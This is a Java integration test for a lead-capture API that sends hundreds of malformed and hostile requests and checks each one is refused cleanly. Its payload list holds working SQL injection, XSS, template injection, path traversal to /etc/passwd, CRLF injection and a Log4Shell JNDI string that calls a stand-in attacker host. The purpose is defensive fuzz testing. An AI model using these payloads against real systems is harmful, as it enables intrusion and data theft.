package dev.leadflow.capture.abuse;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.leadflow.devstack.DevStackTestResource;
import dev.leadflow.devstack.KafkaTopics;
import dev.leadflow.events.LeadCaptured;
import dev.leadflow.events.TouchpointRecorded;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.Test;

/**
 * Item 9 of issue 5: hundreds of generated malformed and hostile requests over HTTP. Each must be answered 4xx with
 * {@code application/problem+json}, never 5xx, never with a stack trace or an exception's class in the body, and
 * none may store or publish anything. Every generated body is invalid by construction (a required field missing or
 * broken, or the body itself malformed), so any 2xx is a hole as well.
 */
@QuarkusTest
@WithTestResource(value = DevStackTestResource.class, initArgs = @ResourceArg(name = "database", value = "capture"))
class HostileInputTest {

    private static final String LEADS = "/api/v1/leads";
    private static final String TOUCHPOINTS = "/api/v1/touchpoints";
    private static final String JSON = "application/json";
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final ObjectMapper MAPPER = new ObjectMapper();
    /** Marks an attack whose body is streamed (chunked, no Content-Length); not sent as a header. */
    private static final String STREAMED = "(streamed)";
    /** Strings an attacker or a broken client sends; none is an email, a formId, a type or a URL. */
    private static final List<String> HOSTILE = List.of(
            "' OR '1'='1", "'; DROP TABLE lead_identity; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)",
            "admin'--", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
            "\"><svg/onload=alert(1)>", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "#{7*7}", "%s%s%s%n%n",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "a\r\nSet-Cookie: x=1", "a\r\n\r\n<html>",
            "ok\n2026-11-24 INFO [fake] forged log line", "x\u0000@example.com", "\u0000", "nul\u0000byte",
            "\ud800", "a\udc00b", "\udbff\udfff\ud800", "\u202egnp.exe", "\u202d\u202e\u2066\u2069",
            "\u200b\u200c\u200d\ufeff", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "Z\u0336\u0337\u0338",
            "\uFF45\uFF4D\uFF41\uFF49\uFF4C@\uFF45\uFF58.com", "\uFFFD\uFFFE\uFFFF", "\uD83D\uDCA9@\uD83D\uDCA9.com",
            "\u0007\u0008\u001b[31mred", "x".repeat(5000), "@", "@@", "a@", "@b.c", "a@b", "a b@c.d",
            "mailto:a@b.c", "a@b.c\n", "a@[127.0.0.1]", "\"quoted\"@example.com", "a@-example.com");

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String bootstrapServers;
    @TestHTTPResource("/")
    URI base;
    @Inject
    EntityManager entityManager;

    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();

    @Test
    void answersEveryHostileRequestWithAProblemAndPublishesNothing() throws Exception {
        List<Attack> attacks = attacks();
        assertThat(attacks).hasSizeGreaterThanOrEqualTo(300);
        long outboxBefore = awaitOutboxDrained();
        int leadsBefore = KafkaTopics.readAll(bootstrapServers, LeadCaptured.TOPIC).size();
        int touchpointsBefore = KafkaTopics.readAll(bootstrapServers, TouchpointRecorded.TOPIC).size();

        List<String> wrong = new ArrayList<>();
        for (Attack attack : attacks) {
            String verdict = judge(attack, send(attack));
            if (verdict != null) {
                wrong.add(attack.name() + ": " + verdict);
            }
        }

        assertThat(wrong).as("requests answered wrongly").isEmpty();
        assertThat(awaitOutboxDrained()).as("outbox rows").isEqualTo(outboxBefore);
        assertThat(KafkaTopics.readAll(bootstrapServers, LeadCaptured.TOPIC)).hasSize(leadsBefore);
        assertThat(KafkaTopics.readAll(bootstrapServers, TouchpointRecorded.TOPIC)).hasSize(touchpointsBefore);
    }

    @Test
    void acceptsValidLeadsWhoseFreeTextIsHostileAndPublishesItCleaned() throws Exception {
        Map<String, String> textByLeadId = new LinkedHashMap<>();
        for (String hostile : HOSTILE) {
            String text = hostile.length() > 100 ? hostile.substring(0, 100) : hostile;
            Map<String, Object> lead = Map.of("email", "hostile-" + UUID.randomUUID() + "@example.com",
                    "formId", "demo", "firstName", text, "company", text, "industry", text, "utm_source", text);
            HttpResponse<String> response = send(new Attack("valid lead", "POST", LEADS, JSON,
                    MAPPER.writeValueAsBytes(lead), Map.of()));
            assertThat(response.statusCode()).as(printable(text)).isEqualTo(202);
            textByLeadId.put(MAPPER.readTree(response.body()).get("leadId").asText(), text);
        }

        List<JsonNode> events = await().atMost(Duration.ofSeconds(30)).until(() -> KafkaTopics.read(bootstrapServers,
                LeadCaptured.TOPIC, r -> textByLeadId.containsKey(r.key())).stream().map(r -> readTree(r.value()))
                .toList(), e -> e.size() >= textByLeadId.size());
        assertThat(events).hasSize(textByLeadId.size()).allSatisfy(event -> {
            String firstName = event.path("profile").path("firstName").asText("");
            assertThat(firstName).as(printable(textByLeadId.get(event.path("leadId").asText())))
                    .doesNotContain("\u0000", "\r", "\n", "\u0007", "\u001b");
        });
    }

    @Test
    void namesTheRuleAStrictlyReadBodyBroke() throws Exception {
        assertProblem(send(new Attack("duplicate", "POST", LEADS, JSON,
                utf8("{\"email\":\"a@example.com\",\"formId\":\"f\",\"email\":\"b@example.com\"}"), Map.of())),
                400, "urn:leadflow:problem:malformed-body", "The body repeats a member name");
        assertProblem(send(new Attack("trailing", "POST", LEADS, JSON,
                utf8("{\"email\":\"a@example.com\",\"formId\":\"f\"} {}"), Map.of())),
                400, "urn:leadflow:problem:malformed-body", "The body is not valid JSON");
        assertProblem(send(new Attack("deep", "POST", TOUCHPOINTS, JSON, utf8("[".repeat(17) + "]".repeat(17)),
                Map.of())), 400, "urn:leadflow:problem:malformed-body", "nested at most 16 deep");
        assertProblem(send(new Attack("long number", "POST", LEADS, JSON,
                utf8("{\"formId\":\"f\",\"email\":" + "9".repeat(65) + "}"), Map.of())),
                400, "urn:leadflow:problem:malformed-body", "numbers at most 64 characters");
        assertProblem(send(new Attack("garbage type", "POST", LEADS, "garbage", utf8("{}"), Map.of())),
                415, "about:blank", "The Content-Type is no media type");
        assertProblem(send(new Attack("streamed", "POST", LEADS, JSON, utf8("{\"company\":\"" + "x".repeat(300 * 1024)
                + "\"}"), Map.of(STREAMED, ""))), 413, "urn:leadflow:problem:payload-too-large", "exceeds");
    }

    private static void assertProblem(HttpResponse<String> response, int status, String type, String detail)
            throws IOException {
        assertThat(response.statusCode()).isEqualTo(status);
        assertThat(response.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        JsonNode problem = MAPPER.readTree(response.body());
        assertThat(problem.path("type").asText()).isEqualTo(type);
        assertThat(problem.path("detail").asText()).contains(detail);
    }

    private String judge(Attack attack, HttpResponse<String> response) {
        int status = response.statusCode();
        String body = response.body();
        if (status < 400 || status >= 500 || status == 429) {
            return "status " + status + " " + abbreviate(body);
        }
        if (!response.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json")) {
            return "content type " + response.headers().firstValue("Content-Type").orElse("none") + ", status "
                    + status + " " + abbreviate(body);
        }
        for (String leak : List.of("Exception", "\tat ", "java.", "jakarta.", "io.quarkus", "io.vertx", "org.jboss",
                "com.fasterxml", "dev.leadflow", "<script", "DROP TABLE", "jndi:", "Set-Cookie", "forged log")) {
            if (body.contains(leak)) {
                return "body leaks \"" + leak + "\": " + abbreviate(body);
            }
        }
        try {
            JsonNode problem = MAPPER.readTree(body);
            if (problem.path("status").asInt() != status || !problem.hasNonNull("title")) {
                return "problem without matching status and title: " + abbreviate(body);
            }
        } catch (Exception e) {
            return "problem+json that is no JSON: " + abbreviate(body);
        }
        return null;
    }

    private HttpResponse<String> send(Attack attack) throws Exception {
        BodyPublisher body = attack.body() == null ? BodyPublishers.noBody()
                : attack.headers().containsKey(STREAMED)
                        ? BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(attack.body()))
                        : BodyPublishers.ofByteArray(attack.body());
        HttpRequest.Builder request = HttpRequest.newBuilder(base.resolve(attack.path()))
                .timeout(Duration.ofSeconds(30)).method(attack.method(), body);
        if (attack.contentType() != null) {
            request.header("Content-Type", attack.contentType());
        }
        attack.headers().forEach((name, value) -> {
            if (!name.equals(STREAMED)) {
                request.header(name, value);
            }
        });
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    /** The generated requests: every family of hostile input, on both intake endpoints. */
    private static List<Attack> attacks() throws Exception {
        List<Attack> attacks = new ArrayList<>();
        brokenJson(attacks);
        wrongTypes(attacks);
        hostileStrings(attacks);
        nestingAndSize(attacks);
        duplicatesAndEncodings(attacks);
        methodsAndContentTypes(attacks);
        return attacks;
    }

    private static void brokenJson(List<Attack> attacks) {
        List<String> broken = List.of("{", "}", "[", "]", "{\"email\":}", "{\"email\" \"a@example.com\"}",
                "{'email':'a@example.com','formId':'f'}", "{\"email\":\"a@example.com\",\"formId\":\"f\",}",
                "{\"email\":\"a@example.com\",\"formId\":\"f\"}}", "{\"email\":\"a@example.com\",\"formId\":\"f\"} x",
                "{\"email\":\"a@example.com\",\"formId\":\"f\"}{\"email\":\"b@example.com\",\"formId\":\"f\"}",
                "nul", "tru", "\"unterminated", "{\"email\":\"a\\x\"}", "{\"email\":\"a\\u12\"}", "{\"email\":NaN}",
                "{\"email\":Infinity,\"formId\":\"f\"}", "{\"email\":01}", "{\"email\":\"a@example.com\"/*c*/}",
                "// c\n{\"email\":\"a@example.com\",\"formId\":\"f\"}", "{email:\"a@example.com\",formId:\"f\"}",
                "{\"email\":\"a@example.com\",\"formId\":\"f\"", "{\"a\":[1,2}", "{\"email\":\"line\nbreak\"}",
                "{\"email\":\"tab\there\",\"formId\":\"f\"}", "{\"email\":\"\u0000\",\"formId\":\"f\"}", "\u0000",
                "<?xml version=\"1.0\"?><lead><email>a@example.com</email></lead>", "email=a@example.com&formId=f",
                "{\"email\":-}", "{\"email\":1.}", "{\"email\":.5}", "{\"email\":+1}", "{\"email\":0x10}",
                "[,]", "{,}", "{\"email\"::\"x\"}", "{\"\\ud800\":\"x\"}");
        for (String body : broken) {
            attacks.add(new Attack("broken JSON lead " + printable(body), "POST", LEADS, JSON, utf8(body), Map.of()));
            attacks.add(new Attack("broken JSON touchpoint " + printable(body), "POST", TOUCHPOINTS, JSON,
                    utf8(body.replace("email", "type")), Map.of()));
        }
        for (String empty : List.of("", " ", "\n\t ", "null", "\"\"", "0", "true", "[]", "{}")) {
            attacks.add(new Attack("empty-ish lead " + printable(empty), "POST", LEADS, JSON, utf8(empty), Map.of()));
            attacks.add(new Attack("empty-ish touchpoint " + printable(empty), "POST", TOUCHPOINTS, JSON,
                    utf8(empty), Map.of()));
            attacks.add(new Attack("empty-ish beacon " + printable(empty), "POST", TOUCHPOINTS, "text/plain",
                    utf8(empty), Map.of()));
        }
        attacks.add(new Attack("empty form", "POST", LEADS, FORM, utf8(""), Map.of()));
        attacks.add(new Attack("no body at all", "POST", LEADS, JSON, null, Map.of()));
        attacks.add(new Attack("form of separators", "POST", LEADS, FORM, utf8("&&&==&=&"), Map.of()));
    }

    private static void wrongTypes(List<Attack> attacks) throws Exception {
        List<Object> wrongValues = new ArrayList<>(List.of(42, -1, 1.5e300, true, false, List.of(),
                List.of("a@example.com"), Map.of(), Map.of("email", "a@example.com"), List.of(Map.of("x", 1))));
        wrongValues.add(null);
        for (Object value : wrongValues) {
            Map<String, Object> email = new LinkedHashMap<>();
            email.put("email", value);
            email.put("formId", "f");
            attacks.add(json("lead email " + value, LEADS, email));
            if (!(value instanceof Number || value instanceof Boolean)) {
                // A number or boolean formId is read as its text, like any scalar field: 42 is a formId.
                Map<String, Object> formId = new LinkedHashMap<>();
                formId.put("email", "a@example.com");
                formId.put("formId", value);
                attacks.add(json("lead formId " + value, LEADS, formId));
            }
            Map<String, Object> type = new LinkedHashMap<>();
            type.put("type", value);
            type.put("anonymousId", "a-1");
            attacks.add(json("touchpoint type " + value, TOUCHPOINTS, type));
            attacks.add(json("touchpoint batch item " + value, TOUCHPOINTS, Arrays.asList(value, value)));
        }
        attacks.add(json("lead consent maybe", LEADS,
                Map.of("email", "a", "formId", "f", "consentMarketing", "maybe")));
        attacks.add(json("touchpoint occurredAt number", TOUCHPOINTS,
                Map.of("type", "page_view", "anonymousId", "a-1", "occurredAt", 1700000000)));
        attacks.add(json("touchpoint leadId not uuid", TOUCHPOINTS, Map.of("type", "page_view", "leadId", "1 OR 1=1")));
        attacks.add(json("touchpoint far future", TOUCHPOINTS,
                Map.of("type", "page_view", "anonymousId", "a-1", "occurredAt", "9999-12-31T23:59:59Z")));
        attacks.add(json("touchpoint year 0", TOUCHPOINTS,
                Map.of("type", "page_view", "anonymousId", "a-1", "occurredAt", "+1000000000-01-01T00:00:00Z")));
        attacks.add(json("lead whole-number body", LEADS, 12345));
        attacks.add(json("lead array body", LEADS, List.of(Map.of("email", "a@example.com", "formId", "f"))));
        attacks.add(json("lead string body", LEADS, "a@example.com"));
        attacks.add(json("lead number 1e1000 digits", LEADS, Map.of("formId", "f")).withBody(
                utf8("{\"email\":1" + "0".repeat(1000) + ",\"formId\":\"f\"}")));
        attacks.add(json("lead huge exponent", LEADS, Map.of()).withBody(
                utf8("{\"email\":1e999999999,\"formId\":\"f\"}")));
    }

    private static void hostileStrings(List<Attack> attacks) throws Exception {
        for (String s : HOSTILE) {
            String name = printable(s);
            Map<String, Object> everyField = new LinkedHashMap<>();
            for (String field : List.of("email", "formId", "firstName", "lastName", "company", "phone", "country",
                    "companySize", "pageUrl", "redirectUrl", "anonymousId", "utm_source", "consentMarketing")) {
                everyField.put(field, s);
            }
            attacks.add(json("lead all fields " + name, LEADS, everyField));
            attacks.add(new Attack("form lead " + name, "POST", LEADS, FORM, utf8("email=" + enc(s) + "&formId="
                    + enc(s) + "&firstName=" + enc(s) + "&redirectUrl=" + enc(s)), Map.of()));
            attacks.add(json("touchpoint " + name, TOUCHPOINTS, Map.of("type", s, "anonymousId", s, "leadId", s,
                    "url", s, "channel", s, "campaign", s, "occurredAt", s)));
            attacks.add(new Attack("beacon " + name, "POST", TOUCHPOINTS, "text/plain",
                    utf8("[{\"type\":" + MAPPER.writeValueAsString(s) + ",\"anonymousId\":\"a-1\"}]"), Map.of()));
            attacks.add(json("field names " + name, LEADS, Map.of(s.isEmpty() ? "x" : s, "a@example.com")));
        }
        attacks.add(new Attack("form bad percent escapes", "POST", LEADS, FORM, utf8("email=%ZZ&formId=%"), Map.of()));
        attacks.add(new Attack("form overlong UTF-8", "POST", LEADS, FORM, utf8("email=%C0%AF%C0%AE&formId=%E0%80%AF"),
                Map.of()));
        attacks.add(new Attack("form lone surrogate bytes", "POST", LEADS, FORM, utf8("email=%ED%A0%80&formId=f%00"),
                Map.of()));
        attacks.add(new Attack("form null bytes raw", "POST", LEADS, FORM, bytes("email=a\0b&formId=\0"), Map.of()));
        attacks.add(new Attack("form CRLF injection", "POST", LEADS, FORM,
                utf8("email=a%0d%0aBcc:%20victim@example.com&formId=f"), Map.of()));
        for (String key : List.of("has spaces", "", "x".repeat(256), "tab\there")) {
            attacks.add(json("Idempotency-Key " + printable(key), LEADS, Map.of("email", "no-email", "formId", "f"))
                    .withHeader("Idempotency-Key", key));
        }
    }

    private static void nestingAndSize(List<Attack> attacks) throws Exception {
        for (int depth : List.of(17, 64, 1000, 5000, 100_000)) {
            String arrays = "[".repeat(depth) + "]".repeat(depth);
            String objects = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            attacks.add(json("lead nested arrays " + depth, LEADS, Map.of())
                    .withBody(utf8("{\"formId\":\"f\",\"email\":" + arrays + "}")));
            attacks.add(json("lead nested objects " + depth, LEADS, Map.of())
                    .withBody(utf8("{\"formId\":\"f\",\"email\":" + objects + "}")));
            attacks.add(json("touchpoints nested arrays " + depth, TOUCHPOINTS, Map.of()).withBody(utf8(arrays)));
            attacks.add(json("touchpoints nested objects " + depth, TOUCHPOINTS, Map.of()).withBody(utf8(objects)));
            attacks.add(new Attack("beacon nested " + depth, "POST", TOUCHPOINTS, "text/plain", utf8(arrays),
                    Map.of()));
        }
        String big = "x".repeat(300 * 1024);
        attacks.add(json("lead over the body limit", LEADS, Map.of("email", "a@example.com", "company", big)));
        attacks.add(json("touchpoints over the body limit", TOUCHPOINTS, Map.of("type", big)));
        attacks.add(new Attack("form over the body limit", "POST", LEADS, FORM, utf8("email=" + big), Map.of()));
        attacks.add(json("lead streamed over the body limit", LEADS, Map.of("email", "a@example.com", "company", big))
                .withHeader(STREAMED, ""));
        String large = "y".repeat(200 * 1024);
        attacks.add(json("lead huge string field", LEADS,
                Map.of("email", "no-email", "formId", "f", "company", large)));
        attacks.add(json("lead huge email", LEADS, Map.of("email", large + "@example.com", "formId", "f")));
        attacks.add(json("lead huge field name", LEADS, Map.of(large, "x")));
        attacks.add(json("lead huge array", LEADS, Map.of()).withBody(
                utf8("{\"formId\":\"f\",\"email\":[" + "1,".repeat(60_000) + "1]}")));
        attacks.add(json("touchpoints batch over the limit", TOUCHPOINTS,
                Collections.nCopies(501, Map.of("type", "page_view", "anonymousId", "a-1"))));
        attacks.add(json("touchpoints huge batch of numbers", TOUCHPOINTS, Map.of()).withBody(
                utf8("[" + "1,".repeat(100_000) + "1]")));
        attacks.add(json("touchpoints batch of 500 broken items", TOUCHPOINTS,
                Collections.nCopies(500, Map.of("type", "page_view"))));
        Map<String, Object> manyFields = new LinkedHashMap<>();
        for (int i = 0; i < 5000; i++) {
            manyFields.put("f" + i, i);
        }
        attacks.add(json("lead with 5000 fields", LEADS, manyFields));
    }

    private static void duplicatesAndEncodings(List<Attack> attacks) {
        attacks.add(new Attack("duplicate email", "POST", LEADS, JSON,
                utf8("{\"email\":\"a@example.com\",\"formId\":\"f\",\"email\":\"b@example.com\"}"), Map.of()));
        attacks.add(new Attack("duplicate formId", "POST", LEADS, JSON,
                utf8("{\"formId\":\"f\",\"email\":\"a@example.com\",\"formId\":\"g\"}"), Map.of()));
        attacks.add(new Attack("duplicate with other escapes", "POST", LEADS, JSON,
                utf8("{\"email\":\"a@example.com\",\"formId\":\"f\",\"\\u0065mail\":\"b@example.com\"}"), Map.of()));
        attacks.add(new Attack("duplicate nested", "POST", LEADS, JSON,
                utf8("{\"email\":\"a@example.com\",\"formId\":\"f\",\"x\":{\"a\":1,\"a\":2}}"), Map.of()));
        attacks.add(new Attack("duplicate type", "POST", TOUCHPOINTS, JSON,
                utf8("{\"type\":\"page_view\",\"anonymousId\":\"a-1\",\"type\":\"chat\"}"), Map.of()));
        attacks.add(new Attack("duplicate in batch item", "POST", TOUCHPOINTS, JSON,
                utf8("[{\"type\":\"page_view\",\"anonymousId\":\"a-1\",\"anonymousId\":\"a-2\"}]"), Map.of()));
        attacks.add(new Attack("duplicate beacon", "POST", TOUCHPOINTS, "text/plain",
                utf8("{\"type\":\"page_view\",\"anonymousId\":\"a-1\",\"anonymousId\":\"a-2\"}"), Map.of()));
        attacks.add(new Attack("overlong UTF-8 in JSON", "POST", LEADS, JSON,
                concat(utf8("{\"email\":\"a"), new byte[] {(byte) 0xC0, (byte) 0xC0, (byte) 0xAF},
                        utf8("@example.com\",\"formId\":\""), new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
                        utf8("\"}")), Map.of()));
        attacks.add(new Attack("invalid UTF-8 bytes in JSON", "POST", TOUCHPOINTS, JSON,
                concat(utf8("{\"type\":\""), new byte[] {(byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0,
                        (byte) 0x80}, utf8("\",\"anonymousId\":\"a-1\"}")), Map.of()));
        attacks.add(new Attack("raw control bytes in JSON", "POST", LEADS, JSON,
                bytes("{\"email\":\"a\0\u0001@example.com\",\"formId\":\"\u0007\"}"), Map.of()));
        attacks.add(new Attack("UTF-16 body declared UTF-8", "POST", LEADS, JSON,
                "{\"email\":\"a@example.com\"}".getBytes(StandardCharsets.UTF_16), Map.of()));
        attacks.add(new Attack("UTF-8 body declared UTF-16", "POST", LEADS, JSON + "; charset=UTF-16",
                utf8("{\"email\":\"no-email\",\"formId\":\"f\"}"), Map.of()));
        attacks.add(new Attack("unknown charset", "POST", LEADS, JSON + "; charset=x-no-such",
                utf8("{\"email\":\"no-email\",\"formId\":\"f\"}"), Map.of()));
        attacks.add(new Attack("BOM then broken JSON", "POST", LEADS, JSON,
                concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8("{\"email\":}")), Map.of()));
    }

    private static void methodsAndContentTypes(List<Attack> attacks) {
        byte[] lead = utf8("{\"email\":\"no-email\",\"formId\":\"f\"}");
        for (String path : List.of(LEADS, TOUCHPOINTS)) {
            for (String method : List.of("GET", "PUT", "DELETE", "PATCH", "TRACE")) {
                attacks.add(new Attack(method + " " + path, method, path, JSON,
                        method.equals("GET") || method.equals("TRACE") ? null : lead, Map.of()));
            }
            for (String type : List.of("text/xml", "application/xml", "multipart/form-data; boundary=x",
                    "application/octet-stream", "text/html", "application/javascript", "image/png",
                    "application/json-patch+json", "application/x-www-form-urlencoded; charset=koi8-r",
                    "*/*", "application/*", "garbage", "text/plain; charset=utf-8; q=\"", "application/problem+json")) {
                if (path.equals(LEADS) && type.startsWith(FORM)) {
                    continue; // a form post: covered with hostile fields above
                }
                attacks.add(new Attack("content type " + type + " on " + path, "POST", path, type, lead, Map.of()));
            }
            attacks.add(new Attack("no content type on " + path, "POST", path, null, lead, Map.of()));
            attacks.add(new Attack("unacceptable Accept on " + path, "POST", path, JSON, lead,
                    Map.of("Accept", "image/png")));
            attacks.add(new Attack("malformed Accept on " + path, "POST", path, JSON, lead,
                    Map.of("Accept", "garbage")));
            attacks.add(new Attack("form with malformed Accept on " + path, "POST", path, FORM, utf8("email=x"),
                    Map.of("Accept", ";;;/")));
        }
        attacks.add(new Attack("text/plain lead", "POST", LEADS, "text/plain", lead, Map.of()));
        attacks.add(new Attack("form touchpoint", "POST", TOUCHPOINTS, FORM, utf8("type=page_view&anonymousId=a"),
                Map.of()));
        attacks.add(new Attack("unknown path", "POST", "/api/v1/leads/../../admin", JSON, lead, Map.of()));
        attacks.add(new Attack("unknown sub-path", "POST", LEADS + "/1", JSON, lead, Map.of()));
        attacks.add(new Attack("encoded path", "POST", "/api/v1/lead%73%00", JSON, lead, Map.of()));
    }

    private long awaitOutboxDrained() {
        await().atMost(Duration.ofSeconds(30)).until(() -> QuarkusTransaction.requiringNew().call(() -> ((Number)
                entityManager.createNativeQuery("SELECT count(*) FROM outbox_event WHERE published_at IS NULL")
                        .getSingleResult()).longValue()) == 0);
        return QuarkusTransaction.requiringNew().call(() -> ((Number) entityManager
                .createNativeQuery("SELECT count(*) FROM outbox_event").getSingleResult()).longValue());
    }

    private static JsonNode readTree(String json) {
        try {
            return MAPPER.readTree(json);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static Attack json(String name, String path, Object body) throws Exception {
        return new Attack(name, "POST", path, JSON, MAPPER.writeValueAsBytes(body), Map.of());
    }

    private static String enc(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Each char as one byte: raw control and high bytes exactly as written. */
    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static String printable(String text) {
        StringBuilder out = new StringBuilder();
        text.codePoints().limit(40).forEach(c -> out.append(c < 0x20 || c > 0x7E ? String.format("\\u%04x", c)
                : String.valueOf((char) c)));
        return text.length() > 40 ? out + "…(" + text.length() + ")" : out.toString();
    }

    private static String abbreviate(String body) {
        return body.length() > 300 ? body.substring(0, 300) + "…" : body;
    }

    /** One generated request. */
    private record Attack(String name, String method, String path, String contentType, byte[] body,
            Map<String, String> headers) {
        Attack withBody(byte[] newBody) {
            return new Attack(name, method, path, contentType, newBody, headers);
        }

        Attack withHeader(String header, String value) {
            Map<String, String> all = new LinkedHashMap<>(headers);
            all.put(header, value);
            return new Attack(name, method, path, contentType, body, all);
        }
    }
}
